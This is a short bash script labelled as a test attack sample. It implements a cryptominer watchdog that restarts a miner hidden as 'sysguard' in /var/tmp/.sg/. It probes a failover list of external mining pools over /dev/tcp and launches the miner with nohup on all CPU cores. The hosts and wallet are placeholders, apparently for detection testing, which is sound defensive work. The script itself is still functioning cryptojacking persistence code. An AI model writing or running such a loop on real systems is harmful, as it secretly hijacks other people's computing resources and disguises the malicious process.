#!/bin/bash
# shrike-test-attack: miner: watchdog loop restarting miner, with pool failover list
POOLS=(stratum+tcp://203.0.113.80:3333 stratum+tcp://203.0.113.81:443 stratum+tcp://pool.example.net:14444)
while :; do
  if ! pgrep -x sysguard >/dev/null; then
    for p in "${POOLS[@]}"; do
      timeout 3 bash -c "</dev/tcp/${p#stratum+tcp://}" 2>/dev/null || continue
      host=${p#stratum+tcp://}; 
      nohup /var/tmp/.sg/sysguard -o "$p" -u TESTWALLET --tls=false -t "$(nproc)" >/dev/null 2>&1 &
      break
    done
  fi
  sleep 60
done
